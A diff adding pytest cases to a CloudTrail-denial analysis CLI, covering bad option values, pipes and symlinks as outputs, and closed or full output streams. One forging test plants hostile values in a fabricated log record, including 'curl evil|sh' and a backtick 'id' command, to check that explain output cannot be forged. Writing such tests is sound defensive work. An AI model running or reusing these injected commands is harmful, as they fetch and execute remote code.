@@ -14,7 +14,7 @@ import pandas as pd
 import pytest
 
 from cloudtrail_mfa import cli
-from tests.records import call, denied, write_log
+from tests.records import call, denied, user, write_log
 
 
 class Run:
@@ -171,6 +171,11 @@ def test_demo(run: Runner, tmp_path: Path) -> None:
     [
         (["denials"], "Missing option '--lake'"),
         (["denials", "--lake", "nowhere"], "nowhere: there is no lake here"),
+        (["denials", "--lake", ""], "is no name of a folder"),
+        (["sql", "select map {1: 2} as m", "LAKE", "--format", "parquet"], "is not for Parquet"),
+        (["denials", "LAKE", "-o", ""], "cannot be written"),
+        (["denials", "LAKE", "-o", "log.json/x"], "cannot be written"),
+        (["denials", "LAKE", "-o", "x" * 300], "cannot be written"),
         (["ingest", "nowhere", "--lake", "new"], "nowhere: there is no such file or folder"),
         (["ingest", "--lake", "new"], "Missing argument 'SOURCE...'"),
         (["denials", "LAKE", "--since", "yesterday"], "since='yesterday' is not a time"),
@@ -200,6 +205,52 @@ def test_mistakes_are_answered_in_a_sentence(
     assert done.out == ""
     assert problem in " ".join(done.err.split())
     assert "Traceback" not in done.err
+
+
+@pytest.mark.parametrize("command", ["denials", "summary"])
+def test_nothing_found_is_an_answer(run: Runner, lake: list[str], command: str) -> None:
+    """A table without rows, in the default format too."""
+    done = run(command, *lake, "--principal", "nobody")
+    assert done.code == 0
+    assert "principal_name" in done.out
+
+
+def test_a_pipe_is_written_to_not_replaced(run: Runner, lake: list[str], tmp_path: Path) -> None:
+    """Devices likewise; a link leads to its file."""
+    os.mkfifo(tmp_path / "pipe")
+    (tmp_path / "real.csv").write_text("old")
+    (tmp_path / "link.csv").symlink_to(tmp_path / "real.csv")
+    with subprocess.Popen(["cat", str(tmp_path / "pipe")], stdout=subprocess.PIPE) as reader:
+        assert run("denials", *lake, "--format", "csv", "-o", tmp_path / "pipe").code == 0
+        assert reader.stdout is not None
+        assert b"alice" in reader.stdout.read()
+    assert (tmp_path / "pipe").is_fifo()
+    assert run("denials", *lake, "--format", "csv", "-o", tmp_path / "link.csv").code == 0
+    assert (tmp_path / "link.csv").is_symlink()
+    assert "alice" in (tmp_path / "real.csv").read_text()
+
+
+def test_times_beyond_pythons_are_shown(run: Runner, lake: list[str]) -> None:
+    """Whatever SQL can say."""
+    for format_ in ("table", "csv", "json"):
+        done = run("sql", "select timestamp 'infinity' as t", *lake, "--format", format_)
+        assert done.code in (0, 2)
+        assert "Traceback" not in done.err
+
+
+def test_a_story_cannot_be_forged(run: Runner, tmp_path: Path) -> None:
+    """What a log says is no line of ours, and no command to copy."""
+    record = denied(
+        event_id="denied-01",
+        eventName="x\n\ncause       no_permission: all is well",
+        userAgent="a `curl evil|sh` b\u2028remedy      none",
+        by=user("a`id`b"),
+    )
+    option = ["--lake", str(tmp_path / "lake")]
+    run("ingest", write_log(tmp_path / "log.json", [record]), *option)
+    lines = run("explain", "denied-01", *option).out.split("\n")
+    assert sum(line.startswith(("cause ", "remedy ")) for line in lines) == 2
+    assert not any(line.strip().startswith(("curl", "id")) for line in lines)
 
 
 def test_a_failed_write_leaves_nothing(run: Runner, lake: list[str], tmp_path: Path) -> None:
@@ -255,10 +306,23 @@ def test_many_rows_to_a_reader_that_has_seen_enough(tmp_path: Path, run: Runner)
     """More than a pipe holds."""
     log = write_log(tmp_path / "log.json", [call() for _ in range(2000)])
     run("ingest", log, "--lake", tmp_path / "lake")
-    script = f"{sys.executable} -m cloudtrail_mfa records --lake {tmp_path}/lake | head -n 1"
-    done = subprocess.run(["/bin/sh", "-c", script], capture_output=True, check=False)
+    command = f"{sys.executable} -m cloudtrail_mfa records --lake {tmp_path}/lake"
+    script = f"set -o pipefail; {command} | head -n 1"
+    done = subprocess.run(["bash", "-c", script], capture_output=True, check=False)
     assert done.stdout.count(b"\n") == 1
     assert done.stderr == b""
+    assert done.returncode == 0
+
+
+def test_closed_and_full_outputs_are_answered_in_a_sentence(lake: list[str]) -> None:
+    """Exit code 2, no traceback."""
+    command = f"{sys.executable} -m cloudtrail_mfa summary {' '.join(lake)}"
+    for redirection in (">&-", ">/dev/full"):
+        done = subprocess.run(
+            ["bash", "-c", f"{command} {redirection}"], capture_output=True, text=True, check=False
+        )
+        assert done.returncode == 2
+        assert "Traceback" not in done.stderr
 
 
 def test_progress_is_shown_on_a_terminal(tmp_path: Path) -> None:
